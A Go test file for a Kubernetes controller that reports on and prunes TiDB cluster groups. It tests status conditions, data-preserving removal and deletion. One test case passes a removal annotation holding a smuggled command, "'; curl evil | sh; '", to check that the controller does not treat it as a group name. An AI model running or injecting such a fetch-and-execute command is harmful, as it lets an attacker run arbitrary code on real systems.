package controller

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/utils/ptr"

	"github.com/tidb-groups/tidb-groups/apis/groups/v1alpha1"
	"github.com/tidb-groups/tidb-groups/shared/conditions"
	"github.com/tidb-groups/tidb-groups/shared/step"
	"github.com/tidb-groups/tidb-groups/shared/testkit/invariants"
	"github.com/tidb-groups/tidb-groups/shared/testkit/stage"
)

// clock is a time of whole seconds, as the API keeps it.
func clock() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC) }

// stored is the sample as the API server would return it.
func stored(t *testing.T, changes ...func(*v1alpha1.TidbCluster)) *v1alpha1.TidbCluster {
	t.Helper()
	c := sample(t, "ns", changes...)
	c.UID, c.Generation = "cluster-uid", 2
	return c
}

// made is what is seen when every group exists and has ended a reconcile so.
func made(c *v1alpha1.TidbCluster, end step.Outcome, changes ...func(snapshot)) snapshot {
	s := snapshot{groups: map[groupKey]v1alpha1.Group{}, overdue: map[groupKey]bool{}}
	for _, g := range renderGroups(c) {
		g.SetGeneration(1)
		tell(g, end)
		s.groups[keyOf(g)] = g
	}
	for _, change := range changes {
		change(s)
	}
	return s
}

func tell(g v1alpha1.Group, end step.Outcome) {
	set := conditions.New(nil, g.GetGeneration(), clock())
	spec := g.GetComponentSpec()
	set.Finish(conditions.Verdict{Serving: end.Kind == step.KindDone && g.GetReplicas() > 0, Summary: "as asked for", Outcome: end, Paused: spec.Paused, Suspended: spec.Suspended})
	g.GetGroupStatus().Conditions = set.List()
}

// serves is what a group says that serves and is not what its spec asks for.
func serves(end step.Outcome) []metav1.Condition {
	set := conditions.New(nil, 1, clock())
	set.Finish(conditions.Verdict{Serving: true, Summary: "as asked for", Outcome: end})
	return set.List()
}

func tikv(s snapshot) v1alpha1.Group { return s.groups[groupKey{"TiKVGroup", "basic-tikv"}] }

// OPS-01: what a cluster asks of all groups, and a group's own word.
func TestRestartsAndDisruptionArePassedToEveryGroup(t *testing.T) {
	own := &v1alpha1.Disruption{UpdateAtMost: ptr.To(int32(1))}
	c := stored(t, func(c *v1alpha1.TidbCluster) {
		c.Spec.RestartedAt, c.Spec.Disruption = "2026-02-01T00:00:00Z", &v1alpha1.Disruption{Paused: true}
		c.Spec.TiKV[0].RestartedAt, c.Spec.TiKV[0].Disruption = "2026-01-01T00:00:00Z", own
		c.Spec.TiDB[0].RestartedAt = "2026-03-01T00:00:00Z"
	})
	for _, g := range renderGroups(c) {
		spec := g.GetComponentSpec()
		switch g.GroupKind() {
		case v1alpha1.KindTiDBGroup:
			assert.Equal(t, "2026-03-01T00:00:00Z", spec.RestartedAt, "the later of two requests")
		default:
			assert.Equal(t, "2026-02-01T00:00:00Z", spec.RestartedAt)
		}
		if g.GroupKind() == v1alpha1.KindTiKVGroup {
			assert.Equal(t, own, spec.Disruption, "a group's own")
			continue
		}
		assert.Equal(t, c.Spec.Disruption, spec.Disruption)
		assert.NotSame(t, c.Spec.Disruption, spec.Disruption)
	}
}

func TestSEC01CommonNamesArePassedToGroupsThatSupportThem(t *testing.T) {
	c := stored(t, func(c *v1alpha1.TidbCluster) {
		c.Spec.TLS = &v1alpha1.ClusterTLS{AllowedCommonNames: []string{"a"}}
		c.Spec.TiProxy = []v1alpha1.TiProxyEntry{{}}
		c.Spec.TiKV[0].TLS = &v1alpha1.TLS{AllowedCommonNames: []string{"own"}}
	})
	got := map[string][]string{}
	for _, g := range renderGroups(c) {
		got[g.GroupKind()] = g.GetTLS().AllowedCommonNames
	}
	assert.Equal(t, []string{"a"}, got[v1alpha1.KindPDGroup])
	assert.Equal(t, []string{"a"}, got[v1alpha1.KindTiDBGroup])
	assert.Equal(t, []string{"own"}, got[v1alpha1.KindTiKVGroup])
	assert.Empty(t, got[v1alpha1.KindTiProxyGroup])
}

func TestTheClusterDomainIsPassedToEveryGroup(t *testing.T) {
	c := stored(t, func(c *v1alpha1.TidbCluster) {
		c.Spec.ClusterDomain, c.Spec.TiKV[0].ClusterDomain = "cluster.local", "k8s.example.com"
	})
	for _, g := range renderGroups(c) {
		want := "cluster.local"
		if g.GroupKind() == v1alpha1.KindTiKVGroup {
			want = "k8s.example.com" // a group's own
		}
		assert.Equal(t, want, g.GetComponentSpec().ClusterDomain, g.GetName())
	}
}

// U 15.
func TestIPv6SettingsArePassedToEveryGroup(t *testing.T) {
	both, none := &v1alpha1.IPFamilies{IPFamilyPolicy: "PreferDualStack"}, &v1alpha1.IPFamilies{}
	c := stored(t, func(c *v1alpha1.TidbCluster) {
		c.Spec.PreferIPv6, c.Spec.PeerService, c.Spec.TiKV[0].PeerService = true, both, none
	})
	for _, g := range renderGroups(c) {
		spec := g.GetComponentSpec()
		assert.True(t, spec.PreferIPv6, g.GetName())
		if g.GroupKind() == v1alpha1.KindTiKVGroup {
			assert.Nil(t, spec.PeerService, "an entry that says nothing overrides the cluster's")
			continue
		}
		assert.Equal(t, both, spec.PeerService, g.GetName())
		assert.NotSame(t, both, spec.PeerService)
	}
	c.Spec.PreferIPv6, c.Spec.PeerService, c.Spec.TiDB[0].PreferIPv6 = false, nil, true
	for _, g := range renderGroups(c) {
		assert.Equal(t, g.GroupKind() == v1alpha1.KindTiDBGroup, g.GetComponentSpec().PreferIPv6, g.GetName())
		assert.Nil(t, g.GetComponentSpec().PeerService)
	}
}

func TestGroupsAreNamedAndFilledInFromTheCluster(t *testing.T) {
	c := stored(t, func(c *v1alpha1.TidbCluster) {
		c.Spec.TiKV = append(c.Spec.TiKV, v1alpha1.TiKVEntry{Name: "big"})
		c.Spec.TiKV[1].Version = "v9.0.0"
		c.Spec.TiDB[0].Paused = true
	})
	var names []string
	for _, g := range renderGroups(c) {
		names = append(names, g.GroupKind()+" "+g.GetName()+" "+g.GetComponentSpec().Version)
		assert.Equal(t, "basic-pd", g.PDGroupName())
		assert.Equal(t, "ns", g.GetNamespace())
		assert.Equal(t, "basic", g.GetLabels()[v1alpha1.LabelUmbrella])
		assert.Equal(t, g.Component(), g.GetLabels()[v1alpha1.LabelComponent])
		assert.Equal(t, g.GroupKind() == "TiDBGroup", g.GetComponentSpec().Paused)
	}
	assert.Equal(t, []string{"PDGroup basic-pd v8.5.7", "TiKVGroup basic-tikv v8.5.7", "TiKVGroup basic-tikv-big v9.0.0", "TiDBGroup basic-tidb v8.5.7", "TiFlashGroup basic-tiflash v8.5.7"}, names)
	assert.Empty(t, c.Spec.PD.Version, "the cluster's own spec is not written to")
	c.Spec.Paused, c.Spec.Suspended = true, true
	for _, g := range renderGroups(c) {
		assert.True(t, g.GetComponentSpec().Paused && g.GetComponentSpec().Suspended)
	}
}

func TestPlanAndReport(t *testing.T) {
	down := step.Wait("PD", time.Minute, v1alpha1.ReasonStoresUnhealthy, "store 4 is Down")
	bad := step.Stall(v1alpha1.ReasonInvalidSpec, "spec.config: correct it")
	for name, c := range map[string]struct {
		edit                     func(*v1alpha1.TidbCluster)
		change                   func(snapshot)
		ready, upToDate, stalled string
		says                     string
		apply, prune             int
	}{
		"a cluster that serves":       {nil, nil, "True/Ready", "True/UpToDate", "none", "4 of 4 groups are Ready", 4, 0},
		"a group that does not exist": {nil, func(s snapshot) { delete(s.groups, keyOf(tikv(s))) }, "False/Creating", "False/Creating", "none", "creating TiKVGroup basic-tikv", 4, 0},
		"a group that is not Ready":   {nil, func(s snapshot) { tell(tikv(s), down) }, "False/StoresUnhealthy", "False/StoresUnhealthy", "none", "TiKVGroup basic-tikv: store 4 is Down", 4, 0},
		"a group that is stalled":     {nil, func(s snapshot) { tell(tikv(s), bad) }, "False/InvalidSpec", "False/InvalidSpec", "True/InvalidSpec", "TiKVGroup basic-tikv: spec.config: correct it", 4, 0},
		"a stall comes before a wait": {nil, func(s snapshot) { tell(s.groups[groupKey{"PDGroup", "basic-pd"}], down); tell(tikv(s), bad) }, "False/StoresUnhealthy", "False/InvalidSpec", "True/InvalidSpec", "TiKVGroup basic-tikv", 4, 0},
		"Ready names who does not serve": {nil, func(s snapshot) {
			s.groups[groupKey{"PDGroup", "basic-pd"}].GetGroupStatus().Conditions = serves(step.Wait("Lease", time.Minute, v1alpha1.ReasonRestarting, "PD waits its turn"))
			tell(s.groups[groupKey{"TiFlashGroup", "basic-tiflash"}], down)
		}, "False/StoresUnhealthy", "False/Restarting", "none", "TiFlashGroup basic-tiflash: store 4 is Down", 4, 0},
		"a group that is new to its operator":      {nil, func(s snapshot) { tikv(s).GetGroupStatus().Conditions = nil }, "False/WaitingForGroups", "False/WaitingForGroups", "none", "TiKVGroup basic-tikv was changed", 4, 0},
		"an edit alone makes nothing unready":      {nil, func(s snapshot) { tikv(s).SetGeneration(2) }, "True/Ready", "False/WaitingForGroups", "none", "TiKVGroup basic-tikv was changed, and its operator has not processed it yet", 4, 0},
		"nor does one whose operator does not run": {nil, func(s snapshot) { tikv(s).SetGeneration(2); s.overdue[keyOf(tikv(s))] = true }, "True/Ready", "False/WaitingForGroups", "none", "TiKVGroup basic-tikv has no current status: is its operator running?", 4, 0},
		"a store that leads nothing": {nil, func(s snapshot) {
			set := conditions.New(nil, 1, clock())
			set.Finish(conditions.Verdict{Serving: true, Summary: "x", Outcome: step.Done(), NoteReason: v1alpha1.ReasonLeadersEvicted, Note: "no leaders on basic-tikv-0"})
			tikv(s).GetGroupStatus().Conditions = set.List()
		}, "True/Ready", "True/LeadersEvicted", "none", "TiKVGroup basic-tikv: no leaders on basic-tikv-0", 4, 0},
		"an entry of a TiDB that is gone":    {func(c *v1alpha1.TidbCluster) { c.Spec.TiDB = nil }, nil, "True/Ready", "True/UpToDate", "none", "3 of 3 groups are Ready", 3, 1},
		"an entry of stores that is gone":    {func(c *v1alpha1.TidbCluster) { c.Spec.TiFlash = nil }, nil, "True/Ready", "False/EntryRemoved", "True/EntryRemoved", "the spec no longer names TiFlashGroup basic-tiflash, which is kept because its 1 members may hold data", 3, 0},
		"an entry of stores without members": {func(c *v1alpha1.TidbCluster) { c.Spec.TiKV = nil }, scaleToNothing, "True/Ready", "True/UpToDate", "none", "3 of 3 groups are Ready", 3, 1},
		"a deletion":                         {func(c *v1alpha1.TidbCluster) { c.DeletionTimestamp = ptr.To(metav1.NewTime(clock())) }, nil, "True/Ready", "False/Deleting", "none", "the groups are being deleted", 0, 0},
		"a group of another owner": {nil, func(s snapshot) {
			tikv(s).SetOwnerReferences([]metav1.OwnerReference{{Kind: "TidbCluster", Name: "other", UID: "other", Controller: ptr.To(true)}})
		}, "False/NameConflict", "False/NameConflict", "True/NameConflict", "TiKVGroup basic-tikv exists and was not made by this TidbCluster: rename one of the two, or delete the group, although its 3 members may hold data (kubectl -n ns delete TiKVGroup basic-tikv)", 3, 0},
		"a group of a deleted cluster of the same name": {nil, func(s snapshot) {
			tikv(s).SetOwnerReferences([]metav1.OwnerReference{{Kind: "TidbCluster", Name: "basic", UID: "before", Controller: ptr.To(true)}})
		}, "False/Deleting", "False/Deleting", "none", "TiKVGroup basic-tikv belongs to a deleted TidbCluster of the same name", 3, 0},
		"a group of another owner that is leaving": {nil, func(s snapshot) {
			tikv(s).SetOwnerReferences(nil)
			tikv(s).SetLabels(nil)
			tikv(s).SetDeletionTimestamp(ptr.To(metav1.NewTime(clock())))
		}, "False/Deleting", "False/Deleting", "none", "TiKVGroup basic-tikv, which was not made by this TidbCluster, is being deleted", 3, 0},
		"a group that lost its owner":     {nil, func(s snapshot) { tikv(s).SetOwnerReferences(nil) }, "True/Ready", "True/UpToDate", "none", "4 of 4", 4, 0},
		"a group that never had an owner": {nil, func(s snapshot) { tikv(s).SetOwnerReferences(nil); tikv(s).SetLabels(nil) }, "False/NameConflict", "False/NameConflict", "True/NameConflict", "was not made by this", 3, 0},
		"a group that is leaving already": {func(c *v1alpha1.TidbCluster) { c.Spec.TiKV = nil }, func(s snapshot) { tikv(s).SetDeletionTimestamp(ptr.To(metav1.NewTime(clock()))) }, "True/Ready", "False/Deleting", "none", "TiKVGroup basic-tikv, which the spec no longer names, is being deleted", 3, 0},
	} {
		t.Run(name, func(t *testing.T) {
			s := made(stored(t), step.Done())
			if c.change != nil {
				c.change(s)
			}
			cluster := stored(t)
			if c.edit != nil {
				c.edit(cluster)
			}
			out := reported(t, cluster, s)
			assert.Equal(t, c.ready, stage.Verdict(out, v1alpha1.ConditionReady), stage.Dump(out))
			assert.Equal(t, c.upToDate, stage.Verdict(out, v1alpha1.ConditionUpToDate))
			assert.Equal(t, c.stalled, stage.Verdict(out, v1alpha1.ConditionStalled))
			assert.Contains(t, stage.Dump(out), c.says)
			p := makePlan(cluster, s)
			assert.Len(t, p.Apply, c.apply)
			assert.Len(t, p.Prune, c.prune)
		})
	}
}

// scaleToNothing has the TiKVGroup say that it is to have no members and has none.
func scaleToNothing(s snapshot) {
	kv, _ := tikv(s).(*v1alpha1.TiKVGroup)
	kv.Spec.Replicas = ptr.To(int32(0))
	tell(kv, step.Done())
}

// S F9, U 3: a slip in a list costs no data.
func TestAGroupThatHoldsDataOutlivesItsEntry(t *testing.T) {
	registered := func(s snapshot) {
		kv, _ := tikv(s).(*v1alpha1.TiKVGroup)
		kv.Status.Replicas = 3
		for n := range 3 {
			kv.Status.Stores = append(kv.Status.Stores, v1alpha1.StoreStatus{Instance: fmt.Sprintf("basic-tikv-%d", n), ID: fmt.Sprint(n + 1), State: "Up"})
		}
	}
	counted := func(s snapshot) {
		registered(s)
		status := tikv(s).GetGroupStatus()
		set := conditions.New(status.Conditions, 1, clock())
		set.MarkTrue(v1alpha1.ConditionHoldsRegions, v1alpha1.ReasonRegionsLeft, "its 3 stores hold about 740 region peers")
		status.Conditions = append(status.Conditions, set.List()...)
	}
	leaving := func(s snapshot) {
		registered(s)
		kv, _ := tikv(s).(*v1alpha1.TiKVGroup)
		kv.Spec.Replicas = ptr.To(int32(0))
		tell(kv, step.Wait("PD", time.Minute, v1alpha1.ReasonDraining, "store 1 is Offline"))
	}
	allow := func(names string) func(*v1alpha1.TidbCluster) {
		return func(c *v1alpha1.TidbCluster) {
			c.Annotations = map[string]string{v1alpha1.AnnotationAllowRemoval: names}
		}
	}
	const back, scale = "put its entry back, spec.tikv[]: kubectl -n ns edit tidbcluster basic", "kubectl -n ns scale tikvgroup basic-tikv --replicas=0"
	for name, c := range map[string]struct {
		change  func(snapshot)
		edit    func(*v1alpha1.TidbCluster)
		verdict string // of UpToDate
		says    []string
		keeps   int
		prunes  int
	}{
		"its stores are in PD":                   {registered, nil, "False/EntryRemoved", []string{"its 3 stores are in PD and may hold regions", back, scale, "kubectl -n ns annotate --overwrite tidbcluster basic 'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
		"its operator says how many regions":     {counted, nil, "False/EntryRemoved", []string{"because its 3 stores hold about 740 region peers", back, scale}, 1, 0},
		"consent to one that is gone":            {registered, allow("basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
		"consent to one that is wanted again":    {registered, allow("basic-tikv-main"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
		"consent with what is no name":           {registered, allow("'; curl evil | sh; ', basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
		"consent":                                {registered, allow("other, basic-tikv"), "True/UpToDate", nil, 0, 1},
		"it is scaled to 0 and not there yet":    {leaving, nil, "False/Draining", []string{"TiKVGroup basic-tikv: store 1 is Offline"}, 1, 0},
		"its scale to 0 is refused":              {func(s snapshot) { leaving(s); tell(tikv(s), step.Stall(v1alpha1.ReasonScaleInRefused, "too few")) }, nil, "False/ScaleInRefused", []string{"too few"}, 1, 0},
		"it has arrived at 0, with a store left": {func(s snapshot) { leaving(s); tell(tikv(s), step.Done()) }, nil, "False/Draining", []string{"is deleted when its last member has left"}, 1, 0},
		"what says 0 is older than the spec":     {func(s snapshot) { scaleToNothing(s); tikv(s).SetGeneration(7) }, nil, "False/WaitingForGroups", []string{"has not processed it yet"}, 1, 0},
		"it has no status at all":                {func(s snapshot) { tikv(s).GetGroupStatus().Conditions = nil }, nil, "False/EntryRemoved", []string{"its 3 members may hold data"}, 1, 0},
		"it is at 0":                             {scaleToNothing, nil, "True/UpToDate", nil, 0, 1},
		"the cluster is paused":                  {registered, func(c *v1alpha1.TidbCluster) { c.Spec.Paused = true }, "False/Paused", []string{"1 groups that the spec no longer names are kept"}, 0, 0},
	} {
		t.Run(name, func(t *testing.T) {
			s := made(stored(t), step.Done())
			c.change(s)
			cluster := stored(t, func(c *v1alpha1.TidbCluster) { c.Spec.TiKV[0].Name = "main" })
			// The renamed entry's group is there and well.
			for _, g := range renderGroups(cluster) {
				if s.groups[keyOf(g)] == nil {
					g.SetGeneration(1)
					tell(g, step.Done())
					s.groups[keyOf(g)] = g
				}
			}
			if c.edit != nil {
				c.edit(cluster)
			}
			out := reported(t, cluster, s)
			assert.Equal(t, c.verdict, stage.Verdict(out, v1alpha1.ConditionUpToDate), stage.Dump(out))
			for _, said := range c.says {
				assert.Contains(t, stage.Dump(out), said)
			}
			p := makePlan(cluster, s)
			assert.Len(t, p.Keep, c.keeps)
			assert.Len(t, p.Prune, c.prunes)
			last := out.Status.Groups[len(out.Status.Groups)-1]
			assert.Equal(t, "basic-tikv", last.Name, "it is shown for as long as it is there")
			assert.Equal(t, v1alpha1.ReasonEntryRemoved, last.Reason)
		})
	}
}

func TestAClusterThatIsPausedOrSuspendedSaysSo(t *testing.T) {
	c := stored(t, func(c *v1alpha1.TidbCluster) { c.Spec.Suspended = true })
	out := reported(t, c, made(c, step.Done()))
	assert.Equal(t, "False/Suspended", stage.Verdict(out, v1alpha1.ConditionReady))
	assert.Equal(t, "True/UpToDate", stage.Verdict(out, v1alpha1.ConditionUpToDate))
	c = stored(t, func(c *v1alpha1.TidbCluster) { c.Spec.Suspended = true })
	out = reported(t, c, made(c, step.Wait("Instance", time.Minute, v1alpha1.ReasonSuspended, "pod basic-pd-0 is still stopping")))
	assert.Equal(t, "False/Suspended", stage.Verdict(out, v1alpha1.ConditionUpToDate), "its pods still stop")
	c = stored(t, func(c *v1alpha1.TidbCluster) { c.Spec.Paused = true })
	out = reported(t, c, made(c, step.Wait("PDGroup", time.Minute, v1alpha1.ReasonPaused, "paused")))
	assert.Equal(t, "True/Paused", stage.Verdict(out, v1alpha1.ConditionPaused))
	assert.Equal(t, "False/Paused", stage.Verdict(out, v1alpha1.ConditionUpToDate))
	assert.Equal(t, "none", stage.Verdict(out, v1alpha1.ConditionReconciling))
}

// P9: of a cluster one group may be suspended by itself. The cluster is not Ready for that, is not
// suspended itself, and is not resumed at every look.
func TestP9AClusterOfWhichOneGroupIsSuspendedStaysAsItIs(t *testing.T) {
	c := stored(t)
	s := made(c, step.Done(), func(s snapshot) {
		g := tikv(s)
		g.GetComponentSpec().Suspended = true
		tell(g, step.Done())
	})
	out := reported(t, c, s)
	assert.Equal(t, "False/Suspended", stage.Verdict(out, v1alpha1.ConditionReady))
	again, _ := reportStatus(out, s, makePlan(out, s), step.Done(), clock().Add(time.Hour))
	assert.Equal(t, out.Status, again, "nothing changes by itself")
}

func TestStatusHasRoomForAllGroupsOfTheLongestSpec(t *testing.T) {
	c := stored(t, func(c *v1alpha1.TidbCluster) {
		s := &c.Spec
		s.TiKV, s.TiDB, s.TiFlash, s.TiProxy, s.TiCDC = nil, nil, nil, nil, nil
		for n := range 16 { // as many as each list takes
			name := fmt.Sprintf("n%d", n)
			s.TiKV, s.TiDB, s.TiFlash = append(s.TiKV, v1alpha1.TiKVEntry{Name: name}), append(s.TiDB, v1alpha1.TiDBEntry{Name: name}), append(s.TiFlash, v1alpha1.TiFlashEntry{Name: name})
			s.TiProxy, s.TiCDC = append(s.TiProxy, v1alpha1.TiProxyEntry{Name: name}), append(s.TiCDC, v1alpha1.TiCDCEntry{Name: name})
		}
	})
	assert.LessOrEqual(t, len(reported(t, c, made(c, step.Done())).Status.Groups), maxGroups)
}

func TestAGroupOfNoMembersKeepsNothingFromBeingReady(t *testing.T) {
	c := stored(t, func(c *v1alpha1.TidbCluster) { c.Spec.TiFlash[0].Replicas = ptr.To(int32(0)) })
	out := reported(t, c, made(c, step.Done()))
	assert.Equal(t, "True/Ready", stage.Verdict(out, v1alpha1.ConditionReady), stage.Dump(out))
	assert.Equal(t, "True/UpToDate", stage.Verdict(out, v1alpha1.ConditionUpToDate))
}

func reported(t *testing.T, c *v1alpha1.TidbCluster, s snapshot) *v1alpha1.TidbCluster {
	t.Helper()
	status, _ := reportStatus(c, s, makePlan(c, s), step.Done(), clock())
	out := c.DeepCopy()
	out.TypeMeta = metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion().String(), Kind: v1alpha1.KindTidbCluster}
	out.Status = status
	raw, err := json.Marshal(out)
	require.NoError(t, err)
	object := &unstructured.Unstructured{}
	require.NoError(t, object.UnmarshalJSON(raw))
	require.Empty(t, invariants.Check(object))
	return out
}

// What kubectl get shows of a cluster (U 4): what really runs, how far it is, and why.
func TestTheColumnsOfAClusterTellTheState(t *testing.T) {
	c := stored(t)
	s := made(c, step.Done())
	for key, g := range s.groups {
		status := g.GetGroupStatus()
		status.ObservedGeneration, status.Version, status.Replicas, status.UpdatedReplicas = 1, "v8.5.6", g.GetReplicas(), g.GetReplicas()
		if key.kind == v1alpha1.KindPDGroup {
			status.Version, status.UpdatedReplicas = "v8.5.7", 0
			status.Conditions = serves(step.Wait("Instance", time.Minute, v1alpha1.ReasonImagePullFailed, "Instance basic-pd-2: image x cannot be pulled"))
		}
	}
	all := int32(0)
	for _, g := range renderGroups(c) {
		all += s.groups[keyOf(g)].GetReplicas()
	}
	out := reported(t, c, s)
	assert.Equal(t, "v8.5.6,v8.5.7", out.Status.Version)
	assert.Equal(t, fmt.Sprintf("%d/%d", all-s.groups[groupKey{"PDGroup", "basic-pd"}].GetReplicas(), all), out.Status.Updated)
	assert.Equal(t, v1alpha1.ReasonImagePullFailed, out.Status.Reason)
	assert.Equal(t, "PDGroup basic-pd: Instance basic-pd-2: image x cannot be pulled", out.Status.Message)
}

// Only what is deleted in the foreground, as Argo CD does, is seen while it goes.
func TestADeletedClusterNamesWhatItsGroupsWaitFor(t *testing.T) {
	c := stored(t)
	s := made(c, step.Done())
	c.DeletionTimestamp = ptr.To(metav1.NewTime(clock()))
	assert.Equal(t, "the groups are being deleted", makePlan(c, s).Outcome.Message)
	kv := s.groups[groupKey{v1alpha1.KindTiKVGroup, "basic-tikv"}]
	kv.SetDeletionTimestamp(c.DeletionTimestamp)
	set := conditions.New(nil, kv.GetGeneration(), clock())
	set.Finish(conditions.Verdict{Outcome: step.Wait("Instance", time.Minute, v1alpha1.ReasonDeleting, "1 Instances are still being deleted: Instance basic-tikv-0: why")})
	kv.GetGroupStatus().Conditions = set.List()
	assert.Equal(t, "the groups are being deleted: TiKVGroup basic-tikv: 1 Instances are still being deleted: Instance basic-tikv-0: why", makePlan(c, s).Outcome.Message)

	c.Spec.Paused, c.Spec.Suspended = true, true
	status, said := reportStatus(c, s, makePlan(c, s), step.Done(), clock())
	assert.Equal(t, v1alpha1.ReasonDeleting, status.Reason)
	assert.False(t, said.Is(v1alpha1.ConditionPaused))
}
